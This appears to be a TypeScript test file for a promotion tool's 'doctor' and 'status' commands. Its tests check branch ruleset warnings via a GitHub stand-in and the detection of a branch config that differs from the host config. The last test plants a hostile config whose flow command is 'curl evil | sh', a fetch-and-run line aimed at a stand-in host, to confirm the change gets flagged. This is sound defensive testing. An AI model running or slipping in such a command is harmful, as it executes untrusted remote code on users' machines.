/**
 * doctor and status on the trust boundary: the branch's rulesets (through the GitHub stand-in) and
 * a config on the branch that differs from the host's.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { doctor, type DoctorReport } from '../../src/commands/doctor.js';
import { status } from '../../src/commands/status.js';
import { promotionRuleset } from '../../src/core/ruleset.js';
import type { GitHubStandIn } from '../../src/sandbox/github/index.js';
import { startGitHubStandIn } from '../helpers/github-traffic.js';
import { testContext } from '../helpers/context.js';
import { doctorWorld, type DoctorWorld } from '../helpers/doctor-world.js';
import { testEnv } from '../helpers/git-repo.js';

let world: DoctorWorld | undefined;
let gh: GitHubStandIn | undefined;
afterEach(async () => {
  await gh?.close();
  await world?.cleanup();
  world = gh = undefined;
});

async function setUp() {
  world = await doctorWorld();
  gh = await startGitHubStandIn({ repos: { 'acme/projections': world.repo.remote } });
  const ctx = () =>
    testContext({
      cwd: world!.repo.clone,
      env: testEnv({
        GITHUB_TOKEN: gh!.token,
        GITHUB_API_URL: gh!.url,
        GITHUB_REPOSITORY: 'acme/projections',
      }),
    });
  return { world, gh, ctx };
}

const check = (report: DoctorReport, name: string) => report.checks.find((c) => c.name === name)!;

describe('doctor: repository rules', () => {
  it('warns when the branch does not require git-promote/validate or code-owner review', async () => {
    const { ctx } = await setUp();
    const report = (await doctor([], {}, ctx())).data as DoctorReport;
    const repo = check(report, 'repository');
    expect(repo.status).toBe('warn');
    expect(repo.items.map((i) => i.detail)).toEqual([
      'git-promote/validate is not a required status check',
      'no rule requires a code owner review (for .github/ and promote.config.json)',
      'force pushes are not blocked',
    ]);
  });

  it('is ok once the ruleset init prints is active', async () => {
    const { gh, ctx } = await setUp();
    gh.repoState('acme/projections').rules = (promotionRuleset().rules as { type: string }[]).map((r) => r);
    const repo = check((await doctor([], {}, ctx())).data as DoctorReport, 'repository');
    expect(repo).toMatchObject({ status: 'ok', items: [] });
  });

  it('skips (does not fail) when the token cannot read the rules', async () => {
    const { gh, ctx } = await setUp();
    gh.inject({ method: 'GET', path: /\/rules\/branches\//, status: 403, times: 5 });
    const repo = check((await doctor([], {}, ctx())).data as DoctorReport, 'repository');
    expect(repo.status).toBe('skip');
    expect(repo.detail).toMatch(/^cannot read the rules of main: /);
  });
});

describe('a config on the branch that differs from the host config', () => {
  it('is reported by status and doctor, naming what changed', async () => {
    const { world, ctx } = await setUp();
    // Someone merged a config change on the branch; the host config (the clone's file) is unchanged.
    const path = join(world.repo.clone, 'promote.config.json');
    const host = readFileSync(path, 'utf8');
    const changed = JSON.parse(host) as { pointers: Record<string, unknown>; flow: Record<string, unknown> };
    changed.pointers.evil = { file: 'promote.config.json', artifacts: '/tmp/{run_id}' };
    changed.flow.command = ['sh', '-c', 'curl evil | sh'];
    world.repo.commit({ 'promote.config.json': JSON.stringify(changed, null, 2) });
    writeFileSync(path, host);

    const s = await status([], {}, ctx());
    expect(s.text).toContain(
      'warning: config changed on the branch, review and update the host config (pointers.evil (added on the branch), flow)',
    );
    expect((s.data as { configChanged: string[] }).configChanged).toEqual([
      'pointers.evil (added on the branch)',
      'flow',
    ]);
    const pointers = check((await doctor([], {}, ctx())).data as DoctorReport, 'pointers');
    expect(pointers.items.find((i) => i.name === 'config')).toMatchObject({
      status: 'warn',
      detail: expect.stringContaining('config changed on the branch'),
    });
  });
});
